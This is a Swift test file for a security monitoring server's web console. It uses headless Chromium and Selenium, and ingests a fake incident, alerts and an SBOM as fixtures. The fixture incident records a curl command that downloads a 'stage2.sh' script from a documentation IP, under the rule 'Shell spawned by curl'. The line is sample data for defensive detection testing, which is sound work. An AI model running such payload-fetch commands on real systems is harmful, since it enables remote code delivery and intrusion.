import Foundation
import ShrikeTestSupport
import ShrikeVulnDB
import Testing
@testable import ShrikeServer

private let seleniumPython = RepositoryFiles.path(".venv-selenium/bin/python")
private let browserReady = FileManager.default.isExecutableFile(atPath: "/usr/bin/chromium")
    && FileManager.default.isExecutableFile(atPath: "/usr/bin/chromedriver")
    && FileManager.default.isExecutableFile(atPath: seleniumPython)

/// The console in a real browser: headless Chromium driven by Selenium (Tests/ShrikeServerTests/Support/
/// console_browser.py) against a `shrike server` process filled through `/api/v1/ingest` with an agent token.
@Suite("Console in a real browser",
       .enabled(if: browserReady, "needs chromium, chromium-driver (make test-deps) and .venv-selenium (scripts/validators.sh creates it)"))
struct ConsoleBrowserTests {
    static let rule = "Shell spawned by curl"
    static let command = "curl -fsS http://203.0.113.7/stage2.sh"

    /// An incident whose process tree ran `command` two seconds before its alert.
    static func incident(id: String, openedAt: Int64) -> [String: Any] {
        var body = IngestFixtures.incident(id: id, rule: rule, openedAt: openedAt)
        let before = IngestFixtures.rfc3339(openedAt - 2_000_000_000)
        var incident = body["incident"] as? [String: Any] ?? [:]
        incident["start"] = IngestFixtures.rfc3339(openedAt - 10_000_000_000)
        incident["end"] = IngestFixtures.rfc3339(openedAt + 10_000_000_000)
        body["incident"] = incident
        var processes = body["processes"] as? [[String: Any]] ?? []
        processes[0]["commandLine"] = command
        processes[0]["execs"] = [["time": before, "exe": "/usr/bin/curl", "commandLine": command]]
        body["processes"] = processes
        var entries = body["entries"] as? [[String: Any]] ?? []
        entries.insert(["time": before, "lane": "process", "kind": "exec", "pid": 101, "process": "curl", "depth": 1,
                        "summary": command, "syscall": "execve", "failed": false], at: 0)
        body["entries"] = entries
        return body
    }

    @Test(.timeLimit(.minutes(3)))
    func signInWatchLiveInvestigateFilterAndSignOut() throws {
        let directory = FileManager.default.temporaryDirectory.path + "/shrike-console-browser-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        // The server's advisory database, as `shrike db import` leaves it, so the uploaded SBOM has a match.
        let advisories = try SQLiteAdvisoryStore(path: directory + "/advisories.sqlite")
        _ = try advisories.importAdvisories([AdvisoryPathImporter(
            path: RepositoryFiles.path("Tests/ShrikeVulnDBTests/Fixtures/alpine-secdb/v3.9"))])
        try advisories.close()
        let server = try ShrikeServerProcess(directory: directory)
        let agent = try server.token("node-1", role: "agent")
        let viewer = try server.token("watcher", role: "viewer")
        let (digest, imageID, sbom) = try ServerRematchTests.downgradedImageSBOM()
        let now = Int64(Date().timeIntervalSince1970 * 1e9)
        let incidentID = IngestFixtures.incidentID(7)
        var older = ConsoleEscapingTests.hostileAlert(now: now - 60_000_000_000)
        older["rule"] = "Another rule"
        #expect(try server.ingest([
            (1, "sbom", sbom), (2, "heartbeat", IngestFixtures.heartbeat(running: [imageID], time: now)),
            (3, "incident", Self.incident(id: incidentID, openedAt: now - 1_000_000_000)),
            (4, "alert", IngestFixtures.alert(rule: Self.rule, time: now - 1_000_000_000, incident: incidentID)),
            (5, "alert", older),
            (6, "incident", ConsoleEscapingTests.hostileIncident(now: now - 30_000_000_000)),
        ], token: agent) == 200)

        // Screenshots are kept (under .build, which git ignores) for a person to look at after the run.
        let artifacts = RepositoryFiles.path(".build/artifacts/console-browser")
        try? FileManager.default.removeItem(atPath: artifacts)
        try FileManager.default.createDirectory(atPath: artifacts, withIntermediateDirectories: true)
        print("console browser screenshots: \(artifacts)")
        // timeout(1) bounds the browser: .timeLimit cannot stop a blocking wait, and a hung chromium must fail, not stall.
        let result = try ExternalTool.run(["/usr/bin/timeout", "-k", "5", "150", seleniumPython, RepositoryFiles.path(
            "Tests/ShrikeServerTests/Support/console_browser.py"), server.url, viewer, agent, incidentID, Self.command,
            Self.rule, digest, "CVE-2019-14697", artifacts, ConsoleEscapingTests.incidentID])
        print(result.stdout)
        #expect(result.status == 0, "\(result.stdout)\n\(result.stderr)\nscreenshots: \(artifacts)")
        #expect(result.stdout.contains("ok: signed out"))
    }
}
